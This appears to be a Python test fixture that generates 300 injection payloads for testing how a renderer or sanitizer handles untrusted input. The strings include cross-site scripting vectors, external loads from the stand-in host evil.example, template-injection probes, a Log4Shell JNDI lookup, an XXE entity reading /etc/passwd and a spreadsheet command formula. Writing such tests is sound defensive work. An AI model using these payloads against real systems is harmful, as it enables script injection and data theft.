"""Three hundred texts that have run scripts, sent requests or broken pages of other programs; any of them in any field.

A payload that comes to life calls `ran()`, which the test gives to every page, or asks `evil.example` for something.
"""

from collections.abc import Iterator
from itertools import islice

EVIL = "https://evil.example"

_HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "onbegin", "ontoggle",
    "onpointerenter", "onscroll", "onwheel", "oncopy", "onpageshow", "onhashchange", "onbeforeprint", "onresize",
    "oncontentvisibilityautostatechange", "onscrollend", "ontransitionend",
)  # fmt: skip
_HANDLED = (
    "<img src=x {0}=ran()>", "<svg {0}=ran()>", '"><body {0}="ran()">', "' {0}='ran()' autofocus tabindex=1 x='",
    '<details open {0}="ran()"><summary>x</summary></details>',
)  # fmt: skip
_SCRIPTS = (
    "<script>ran()</script>", "<SCRIPT>ran()</SCRIPT>", "<script >ran()</script >", "</script><script>ran()</script>",
    "</style><script>ran()</script>", "</title><script>ran()</script>", "</textarea><script>ran()</script>",
    "<script\t>ran()</script>", "<script/x>ran()</script>", "<scr<script>ipt>ran()</scr</script>ipt>",
    f"<script src={EVIL}/a.js></script>", f"<script src=//{EVIL[8:]}/a.js></script>", "<script type=module>ran()</script>",
    "<script>/*-->*/ran()</script>", "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">",
    "\"><script>ran()</script>", "'><script>ran()</script>", "`><script>ran()</script>", "--><script>ran()</script>",
    "]]><script>ran()</script>", "*/</style><script>ran()</script>", "<svg><script>ran()</script></svg>",
    "<svg><script href=data:,ran()></script></svg>", "<svg><style><img src=x onerror=ran()></style></svg>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=ran() src>\">",
    "<math><annotation-xml encoding=text/html><img src=x onerror=ran()></annotation-xml></math>",
    "<math href=javascript:ran()>x</math>", "<template><script>ran()</script></template>", "＜script＞ran()＜/script＞",
    "%3Cscript%3Eran()%3C/script%3E", "&lt;script&gt;ran()&lt;/script&gt;", "&#60;script&#62;ran()&#60;/script&#62;",
    "&#x3c;script&#x3e;ran()&#x3c;/script&#x3e;", "&LT;script&GT;ran()", "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "<ſcript>ran()</ſcript>", "<script\u2028>ran()</script>", "<\u200bscript>ran()</script>", "<script>ran()//",
    "<<script>ran();//<</script>", "+ADw-script+AD4-ran()+ADw-/script+AD4-", "¼script¾ran()¼/script¾",
    "<foo xmlns='http://www.w3.org/1999/xhtml'><script>ran()</script></foo>", "<xss onfocus=ran() autofocus tabindex=1>",
)  # fmt: skip
_MARKUP = (
    f"<img src={EVIL}/a.png>", f"<img srcset='{EVIL}/a.png 1x'>", f"<picture><source srcset={EVIL}/a.png></picture>",
    f"<link rel=stylesheet href={EVIL}/a.css>", f"<link rel=icon href={EVIL}/a.ico>", f"<link rel=preload as=image href={EVIL}/a>",
    f"<link rel=dns-prefetch href={EVIL}>", f"<iframe src={EVIL}></iframe>", "<iframe src=javascript:parent.ran()></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>", f"<object data={EVIL}/a.swf></object>",
    "<object data=javascript:ran()>", f"<embed src={EVIL}/a.swf>", f"<video src={EVIL}/a.mp4 autoplay>", f"<audio src={EVIL}/a.mp3 autoplay>",
    f"<track src={EVIL}/a.vtt>", f"<base href={EVIL}/>", f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>", "<meta charset=utf-7>", f"<form action={EVIL}><input name=a autofocus>",
    "<form><button formaction=javascript:ran()>x", "<isindex action=javascript:ran()>", "<input onfocus=ran() autofocus>",
    f"<body background={EVIL}/a.png>", f"<table background={EVIL}/a.png>", f"<portal src={EVIL}>", f"<frameset><frame src={EVIL}>",
    f"<applet code={EVIL}>", f"<bgsound src={EVIL}/a.mid>", "<marquee onstart=ran()>x</marquee>", "<dialog open>x</dialog>",
    "<a href=javascript:ran()>x</a>", "<a href=' javascript:ran()'>x</a>", "<a href=java\tscript:ran()>x</a>",
    "<a href=data:text/html,<script>ran()</script>>x</a>", "<a href=vbscript:ran()>x</a>", f"<a ping={EVIL} href=#>x</a>",
    "<area href=javascript:ran()>", "</main></div></body></html>", "</td></tr></table><h1>x</h1>", "</section></main><nav>",
    "<plaintext>", "<xmp>", "<textarea>", "<select><option>", "<title>x</title>", "<h1>x</h1>", "<p id=content>", "<i id=live>",
    "<svg><a xlink:href=javascript:ran()><text y=20>x</text></a></svg>", f"<svg><image href={EVIL}/a.png /></svg>",
    f"<svg><use href={EVIL}/a.svg#x /></svg>", "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:ran() />", f"<svg><feImage href={EVIL}/a.png />", "<svg><foreignObject><body onload=ran()>",
    f"<svg><style>@import '{EVIL}/a.css'</style></svg>", "<svg><title><img src=x onerror=ran()></title></svg>",
    "</desc></svg><script>ran()</script>", "</text><image href=x onerror=ran() /><text>", "<math><mi xlink:href=javascript:ran()>x",
    "<math><maction actiontype=statusline#javascript:ran()>x</maction></math>", "<![CDATA[<script>ran()</script>]]>",
    "]]>", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", "&a;", "<?xml-stylesheet href='javascript:ran()'?>", "<?php ran() ?>", "<%= 7*191 %>",
)  # fmt: skip
_STYLES = (
    f"<style>@import '{EVIL}/a.css';</style>", f"<style>*{{background:url({EVIL}/a.png)}}</style>", f"<p style=background:url({EVIL}/a.png)>x",
    "</style><h1>x", "*/ } body { display: none } /*", "} * { color: red }", "<p style='position:fixed;inset:0;background:red'>x</p>",
    f"; background: url({EVIL}/a.png)", "expression(ran())", "x' style='animation-name:x' onanimationstart='ran()",
    f"<style>@font-face{{font-family:x;src:url({EVIL}/a.woff)}}*{{font-family:x}}</style>", "<div hidden>", "\\3c script>ran()",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:ran())", "[x](JaVaScRiPt:ran())", "[x]( javascript:ran())", "[x](java&#115;cript:ran())", "[x](javascript&colon;ran())",
    "[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)", "[x](vbscript:ran())", "[x](file:///etc/passwd)", "[x](//evil.example)",
    f"![x]({EVIL}/a.png)", "![x](javascript:ran())", "![x](data:image/svg+xml,<svg onload=ran()>)", f"[![x]({EVIL}/a.png)]({EVIL})",
    f"<{EVIL}>", "<javascript:ran()>", f"{EVIL}/?q=<script>ran()</script>", f"[x]: {EVIL}", "[x]: javascript:ran()", f'[x]({EVIL} "t\\" onclick=ran() x=\\"")',
    "[x](<javascript:ran()>)", "[a](x'onclick='ran())", "```html\n<script>ran()</script>\n```", "```chart timeline x\n[]\n```", "~~~",
    "```\"><script>ran()</script>\n```", "# x", "## x\n\n<script>ran()</script>", "> x", "- x\n  - <img src=x onerror=ran()>", "***", "a\n===",
    "**x", "`x", "``<img src=x onerror=ran()>`", "\\<script>ran()\\</script>", "[^1]: <script>ran()</script>", "|---|", "a | b | c", "$$x$$", ":::warning",
    "`<script>ran()</script>`", "**<img src=x onerror=ran()>**", "_[x](javascript:ran())_", "\\", "\\\\|", "[x][y]", "![", "](", "{.x onclick=ran()}",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*191 }}", "{{7*'191'}}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "{% for x in range(9) %}x{% endfor %}", "{% include '/etc/passwd' %}",
    "{# x #}", "{{ view }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{{ self }}", "{{ cycler.__init__.__globals__ }}", "{% raw %}", "{%",
    "{{", "}}", "%}", "${jndi:ldap://evil.example/a}", "[[${7*191}]]", "@(7*191)", "{{constructor.constructor('ran()')()}}", "#set($x=7*191)$x", "%{7*191}",
    "*{7*191}", "{7*191}", "{0.__class__}", "%(x)s", "%s%n%x", "$(ran)", "`ran`", "=7*191", "@SUM(1+1)*cmd|' /C calc'!A0",
)  # fmt: skip
_SIGNS = (
    "\u202eran\u202c", "\u202e" * 60, "\u2066x", "\u2067<b>\u2069", "\u200f\u200e", "\u061c", "\u0000", "\u0001\u0008\u001f\u007f", "\ufffe\uffff", "\U000e0001\U000e0041",
    "\u200b\u200c\u200d\u2060\ufeff", "e" + "\u0301" * 100, "\u0e49" * 50, "👩‍👩‍👧‍👦🏴‍☠️🇩🇪", "🟢🟡🔴", "𝕏𝖘𝖘", "ﷺ" * 30, "\u1d173x", "\u2028\u2029", "\u0085\u000b\u000c",
    "x" * 10_000, "🟢" * 2_000, "م" * 3_000, "字" * 3_000, "W-" * 2_000, "a\u00a0" * 2_000, "&" * 500, "&amp;lt;", "&#0;", "&#xD800;", "&#x202e;x", "&nbsp;" * 20,
    "Ω≈ç√∫", "İıſß", "\u00ad" * 50, "\uff1cimg src=x onerror=ran()\uff1e", "\t\t\t", "  ", "-", "0",
)  # fmt: skip
_COMMENTS = (
    "<!--", "<!-- x", "--><img src=x onerror=ran()>", "<!-- --!><img src=x onerror=ran()>", "<!--><script>ran()</script>-->", "<!---><script>ran()</script>",
    "<!-- internal -->", "<!-- /internal -->", "<!-- internal --><script>ran()</script><!-- /internal -->", "<!-- acctplan: allow AP105: <script>ran()</script> -->",
    "<!--[if IE]><script>ran()</script><![endif]-->", "<!doctype html>", "<!x>",
)  # fmt: skip

COUNT = 300
_BLOCKS = 11


def payloads() -> list[str]:
    """All of them, without repetition."""
    return [payload for block in blocks() for payload in block]


def blocks() -> list[list[str]]:
    """All of them in twelve blocks, with long ones far from each other.

    Those that may comment out what follows are the last block, so that they hide no others.
    """
    others = list(dict.fromkeys((*_SCRIPTS, *_MARKUP, *_STYLES, *_MARKDOWN, *_TEMPLATES, *_SIGNS)))
    others += islice(_handlers(), COUNT - len(others) - len(_COMMENTS))
    return [*(others[first::_BLOCKS] for first in range(_BLOCKS)), list(_COMMENTS)]


def _handlers() -> Iterator[str]:
    """Each event in some element, each element with some event, then the rest of their pairs."""
    for shift in range(len(_HANDLED)):
        for number, name in enumerate(_HANDLERS):
            yield _HANDLED[(number + shift) % len(_HANDLED)].format(name)
